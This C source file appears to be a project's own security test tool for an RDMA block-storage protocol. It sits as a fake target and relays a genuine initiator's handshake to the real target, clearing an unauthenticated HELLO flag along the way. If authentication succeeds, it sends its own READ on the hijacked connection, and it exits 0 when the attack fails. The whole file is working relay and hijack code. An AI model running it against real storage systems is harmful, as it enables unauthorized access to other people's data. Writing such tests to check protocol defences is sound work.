/* rdmablk-relay: an on-path attacker that relays the authentication of a
 * genuine initiator to the real target, to get an authenticated connection
 * of its own (docs/security.md).
 *
 *   rdmablk-relay -l LISTEN_ADDR [-p LISTEN_PORT] -H TARGET [-P TARGET_PORT]
 *                 [-t TIMEOUT_S]
 *
 * It listens as a fake target (default port 10899) and prints "listening".
 * For the one initiator that connects, it connects to the real target
 * itself, and passes every message through: HELLO up, CHALLENGE down, AUTH
 * up, byte for byte but for one HELLO flag: it clears SEND_INV (no MAC
 * covers the flags), because its own buffer is a plain MR, which a reply
 * sent with invalidate would fail on.  The secret never reaches it.  If the
 * target answers the relayed AUTH with HELLO_REPLY OK, the relay keeps that
 * connection, sends a READ of its own on it and prints "HIJACKED: ...".
 *
 * Exit 0 when the attack failed (the initiator refused the relayed
 * CHALLENGE and sent no AUTH, or the target refused the relayed AUTH), 1 when
 * the relay was served, 2 on a usage or setup error or a timeout.
 * Written on librdmacm and libibverbs directly. */
#include <endian.h>
#include <errno.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <infiniband/verbs.h>
#include <rdma/rdma_cma.h>

#include "protocol.h"
#include "raw-client.h"
#include "util.h"

#define NRECV     4
#define READ_LEN  4096

/* One side of the relay: down (the initiator's connection to us) or up
 * (ours to the target). */
struct side {
	const char *name;
	struct rdma_cm_id *id;
	struct ibv_pd *pd;
	struct ibv_cq *cq;
	struct ibv_mr *recv_mr, *send_mr, *data_mr;
	struct raw_stash stash;     /* receives seen while waiting for a send */
	char recv[NRECV][RB_MSG_BUF_SIZE];
	char send[RB_MSG_BUF_SIZE];
	char data[READ_LEN];
	int established, closed;
};

static struct rdma_event_channel *ec;
static uint64_t deadline;

static void __attribute__((format(printf, 1, 2), noreturn))
die(const char *fmt, ...)
{
	va_list ap;

	fprintf(stderr, "rdmablk-relay: ");
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	exit(2);
}

static void
usage(void)
{
	fprintf(stderr, "usage: rdmablk-relay -l LISTEN_ADDR [-p LISTEN_PORT] -H TARGET "
		"[-P TARGET_PORT] [-t TIMEOUT_S]\n");
	exit(2);
}

static int
timed_out(void)
{
	return rb_now_ns() >= deadline;
}

/* Room for any CM event's private data: a REP (the accept, seen with
 * ESTABLISHED) carries 196 bytes on InfiniBand and RoCE, however few the
 * target sent. */
#define PRIV_MAX 255

/* The next CM event (copied into *out, private data into priv, PRIV_MAX
 * bytes at most), or -1 on timeout.  The event is acked. */
static int
next_event(struct rdma_cm_event *out, uint8_t *priv, uint8_t *priv_len)
{
	struct pollfd pfd = { .fd = ec->fd, .events = POLLIN };
	struct rdma_cm_event *e;

	for (;;) {
		if (rdma_get_cm_event(ec, &e) == 0)
			break;
		if (errno != EAGAIN)
			die("rdma_get_cm_event: %s", strerror(errno));
		if (timed_out())
			return -1;
		poll(&pfd, 1, 100);
	}
	*out = *e;
	if (priv != NULL) {
		*priv_len = e->param.conn.private_data_len < PRIV_MAX ?
			e->param.conn.private_data_len : PRIV_MAX;
		if (*priv_len > 0)
			memcpy(priv, e->param.conn.private_data, *priv_len);
	}
	rdma_ack_cm_event(e);
	return 0;
}

/* Wait for an event of type on id; a DISCONNECTED marks its side closed. */
static void
wait_event(struct rdma_cm_id *id, enum rdma_cm_event_type type, const char *what,
	   uint8_t *priv, uint8_t *priv_len)
{
	struct rdma_cm_event e;

	for (;;) {
		if (next_event(&e, priv, priv_len) < 0)
			die("%s: timed out", what);
		if (e.id == id && e.event == type)
			return;
		if (e.id == id)
			die("%s: got %s (status %d)", what, rdma_event_str(e.event), e.status);
	}
}

static void
side_post_recv(struct side *s, unsigned i)
{
	if (raw_post_recv(s->id->qp, i, s->recv[i], RB_MSG_BUF_SIZE, s->recv_mr->lkey) != 0)
		die("%s: ibv_post_recv", s->name);
}

/* PD, CQ, QP, buffers and posted receives on s->id. */
static void
side_setup(struct side *s)
{
	const char *what = "ibv_alloc_pd";
	unsigned i;

	s->pd = ibv_alloc_pd(s->id->verbs);
	if (s->pd == NULL || raw_qp_create(s->id, s->pd, NULL, 8, NRECV, 0, &s->cq, &what) < 0)
		die("%s: %s: %s", s->name, what, strerror(errno));
	s->recv_mr = ibv_reg_mr(s->pd, s->recv, sizeof(s->recv), IBV_ACCESS_LOCAL_WRITE);
	s->send_mr = ibv_reg_mr(s->pd, s->send, sizeof(s->send), 0);
	s->data_mr = ibv_reg_mr(s->pd, s->data, sizeof(s->data),
				IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE);
	if (s->recv_mr == NULL || s->send_mr == NULL || s->data_mr == NULL)
		die("%s: ibv_reg_mr: %s", s->name, strerror(errno));
	for (i = 0; i < NRECV; i++)
		side_post_recv(s, i);
}

/* Send len bytes and wait for the send's completion.  -1 when the side is
 * gone. */
static int
side_send(struct side *s, const void *msg, uint32_t len)
{
	struct ibv_sge sge = { (uintptr_t)s->send, len, s->send_mr->lkey };
	struct ibv_send_wr wr = { .wr_id = 100, .sg_list = &sge, .num_sge = 1,
				  .opcode = IBV_WR_SEND, .send_flags = IBV_SEND_SIGNALED }, *bad;
	struct ibv_wc wc;

	memcpy(s->send, msg, len);
	if (ibv_post_send(s->id->qp, &wr, &bad) != 0 ||
	    raw_poll_kind(s->cq, &s->stash, 0, &wc, deadline) < 0)
		return -1;
	return wc.status == IBV_WC_SUCCESS && wc.wr_id == 100 ? 0 : -1;
}

/* A message that arrived on s, or 0 when none did yet; a failed completion
 * marks s closed. */
static uint32_t
side_poll(struct side *s, char *out)
{
	struct ibv_wc wc;
	uint32_t len;

	if (s->closed || raw_poll_kind(s->cq, &s->stash, 1, &wc, 0) < 0)
		return 0;
	if (wc.status != IBV_WC_SUCCESS) {
		s->closed = 1;
		return 0;
	}
	if (!(wc.opcode & IBV_WC_RECV))
		return 0;
	len = wc.byte_len < RB_MSG_BUF_SIZE ? wc.byte_len : RB_MSG_BUF_SIZE;
	memcpy(out, s->recv[wc.wr_id], len);
	side_post_recv(s, (unsigned)wc.wr_id);
	return len;
}

/* CM events while relaying: a disconnect closes that side. */
static void
poll_cm(struct side *down, struct side *up)
{
	struct rdma_cm_event *e;

	while (rdma_get_cm_event(ec, &e) == 0) {
		if (e->event == RDMA_CM_EVENT_DISCONNECTED) {
			if (e->id == down->id)
				down->closed = 1;
			else if (e->id == up->id)
				up->closed = 1;
		}
		rdma_ack_cm_event(e);
	}
}

static const char *
type_name(uint8_t type)
{
	switch (type) {
	case RB_MSG_HELLO: return "HELLO";
	case RB_MSG_CHALLENGE: return "CHALLENGE";
	case RB_MSG_AUTH: return "AUTH";
	case RB_MSG_HELLO_REPLY: return "HELLO_REPLY";
	case RB_MSG_LIST: return "LIST";
	case RB_MSG_LIST_REPLY: return "LIST_REPLY";
	}
	return "another message";
}

/* HELLO's flags, little-endian after the header and the version. */
static void
hello_clear_send_inv(char *msg)
{
	struct rb_hello *m = (struct rb_hello *)msg;

	m->flags = htole16((uint16_t)(le16toh(m->flags) & ~RB_HELLO_SEND_INV));
}

/* The target served the relayed authentication: use the connection. */
static int
hijack(struct side *up)
{
	char msg[RB_MSG_BUF_SIZE];
	struct rb_req_info r;
	struct rb_rep_info rep;
	const char *why = "?";
	struct timespec ts = { 0, 1000000 };
	uint32_t len = 0;

	memset(&r, 0, sizeof(r));
	r.opcode = RB_OP_READ;
	r.tag = 7;
	r.length = READ_LEN;
	r.rkey = up->data_mr->rkey;
	r.addr = (uintptr_t)up->data;
	if (side_send(up, msg, (uint32_t)rb_request_encode(msg, &r)) < 0) {
		printf("HIJACKED: the target accepted the relayed authentication "
		       "(HELLO_REPLY OK); the relay's own READ could not be sent\n");
		return 1;
	}
	while (!timed_out() && !up->closed && (len = side_poll(up, msg)) == 0)
		nanosleep(&ts, NULL);
	if (len > 0 && rb_reply_decode(msg, len, &rep, &why) == 0)
		printf("HIJACKED: the target accepted the relayed authentication "
		       "(HELLO_REPLY OK) and answered the relay's own READ of %u bytes "
		       "with %s\n", READ_LEN, rb_error_name(rep.error));
	else
		printf("HIJACKED: the target accepted the relayed authentication "
		       "(HELLO_REPLY OK)\n");
	return 1;
}

/* Pass messages through until the authentication is decided. */
static int
relay(struct side *down, struct side *up)
{
	char msg[RB_MSG_BUF_SIZE];
	struct timespec ts = { 0, 1000000 };
	struct rb_export_info ei;
	const char *why = "?";
	int challenged = 0, authed = 0;
	uint32_t len;
	uint8_t type;

	while (!timed_out()) {
		poll_cm(down, up);
		if ((len = side_poll(down, msg)) > 0) {
			if (rb_msg_peek(msg, len, &type, &why) == 0) {
				printf("initiator -> target: %s (%u bytes)\n", type_name(type), len);
				authed |= type == RB_MSG_AUTH;
				if (type == RB_MSG_HELLO && len == sizeof(struct rb_hello))
					hello_clear_send_inv(msg);
			}
			if (side_send(up, msg, len) < 0)
				up->closed = 1;
			continue;
		}
		if ((len = side_poll(up, msg)) > 0) {
			if (rb_msg_peek(msg, len, &type, &why) < 0)
				type = 0;
			printf("target -> initiator: %s (%u bytes)\n", type_name(type), len);
			challenged |= type == RB_MSG_CHALLENGE;
			if (type == RB_MSG_HELLO_REPLY &&
			    rb_hello_reply_decode(msg, len, &ei, &why) == 0) {
				if (ei.status == RB_OK && authed)
					return hijack(up);
				if (ei.status == RB_OK) {
					printf("the export needed no authentication: nothing to "
					       "relay\n");
					return 2;
				}
				printf("attack failed: the target refused the relayed %s: %s\n",
				       authed ? "AUTH" : "HELLO", rb_error_name(ei.status));
				return authed ? 0 : 2;
			}
			if (side_send(down, msg, len) < 0)
				down->closed = 1;
			continue;
		}
		if (down->closed && challenged && !authed) {
			printf("attack failed: the initiator gave up after the relayed "
			       "CHALLENGE and sent no AUTH\n");
			return 0;
		}
		if (down->closed || up->closed) {
			printf("the %s connection closed before the authentication was "
			       "decided\n", down->closed ? "initiator's" : "target's");
			return 2;
		}
		nanosleep(&ts, NULL);
	}
	printf("timed out\n");
	return 2;
}

int
main(int argc, char **argv)
{
	static struct side down = { .name = "initiator side" }, up = { .name = "target side" };
	const char *laddr = NULL, *taddr = NULL;
	uint16_t lport = 10899, tport = RB_DEFAULT_PORT;
	struct sockaddr_storage lss, tss;
	struct rdma_conn_param param;
	struct rdma_cm_id *listen_id;
	struct rdma_cm_event e;
	uint8_t cpriv[PRIV_MAX], apriv[PRIV_MAX], clen = 0, alen = 0;
	unsigned timeout_s = 60;
	socklen_t sl;
	uint64_t v;
	int c, rc;

	while ((c = getopt(argc, argv, "l:p:H:P:t:")) != -1) {
		switch (c) {
		case 'l': laddr = optarg; break;
		case 'H': taddr = optarg; break;
		case 'p':
		case 'P':
			if (rb_parse_uint(optarg, 1, 65535, &v) < 0)
				usage();
			*(c == 'p' ? &lport : &tport) = (uint16_t)v;
			break;
		case 't':
			if (rb_parse_uint(optarg, 1, 3600, &v) < 0)
				usage();
			timeout_s = (unsigned)v;
			break;
		default: usage();
		}
	}
	if (laddr == NULL || taddr == NULL || optind != argc)
		usage();
	if (rb_sockaddr_parse(laddr, lport, &lss, &sl) < 0 ||
	    rb_sockaddr_parse(taddr, tport, &tss, &sl) < 0)
		die("-l and -H take numeric addresses");
	setvbuf(stdout, NULL, _IOLBF, 0);
	deadline = deadline_after_s(timeout_s);

	ec = rdma_create_event_channel();
	if (ec == NULL || rb_fd_set_nonblock(ec->fd) < 0)
		die("rdma_create_event_channel: %s", strerror(errno));
	if (rdma_create_id(ec, &listen_id, NULL, RDMA_PS_TCP) != 0 ||
	    rdma_bind_addr(listen_id, (struct sockaddr *)&lss) != 0 ||
	    rdma_listen(listen_id, 1) != 0)
		die("listen on %s:%u: %s", laddr, lport, strerror(errno));
	printf("listening on %s:%u, relaying to %s:%u\n", laddr, lport, taddr, tport);

	/* The initiator's connect: its private data goes to the target as is. */
	for (;;) {
		if (next_event(&e, cpriv, &clen) < 0)
			die("no initiator connected within %u s", timeout_s);
		if (e.event == RDMA_CM_EVENT_CONNECT_REQUEST)
			break;
	}
	down.id = e.id;

	if (rdma_create_id(ec, &up.id, NULL, RDMA_PS_TCP) != 0 ||
	    rdma_resolve_addr(up.id, NULL, (struct sockaddr *)&tss, 5000) != 0)
		die("resolve %s: %s", taddr, strerror(errno));
	wait_event(up.id, RDMA_CM_EVENT_ADDR_RESOLVED, "address resolution", NULL, NULL);
	if (rdma_resolve_route(up.id, 5000) != 0)
		die("rdma_resolve_route: %s", strerror(errno));
	wait_event(up.id, RDMA_CM_EVENT_ROUTE_RESOLVED, "route resolution", NULL, NULL);
	side_setup(&up);
	memset(&param, 0, sizeof(param));
	param.private_data = cpriv;
	param.private_data_len = clen;
	param.responder_resources = 1;
	param.retry_count = 7;
	param.rnr_retry_count = 7;
	if (rdma_connect(up.id, &param) != 0)
		die("rdma_connect: %s", strerror(errno));
	wait_event(up.id, RDMA_CM_EVENT_ESTABLISHED, "connect to the target", apriv, &alen);

	/* The target's accept, with its private data, goes to the initiator. */
	side_setup(&down);
	memset(&param, 0, sizeof(param));
	param.private_data = apriv;
	param.private_data_len = alen > sizeof(struct rb_conn_priv) ?
		sizeof(struct rb_conn_priv) : alen;
	param.initiator_depth = 1;
	param.retry_count = 7;
	param.rnr_retry_count = 7;
	if (rdma_accept(down.id, &param) != 0)
		die("rdma_accept: %s", strerror(errno));
	wait_event(down.id, RDMA_CM_EVENT_ESTABLISHED, "accept of the initiator", NULL, NULL);
	printf("relaying through the relay's QP %u (to the initiator) and QP %u (to the "
	       "target)\n", (unsigned)down.id->qp->qp_num, (unsigned)up.id->qp->qp_num);

	rc = relay(&down, &up);
	/* The process exits: the kernel tears the QPs and ids down. */
	return rc;
}
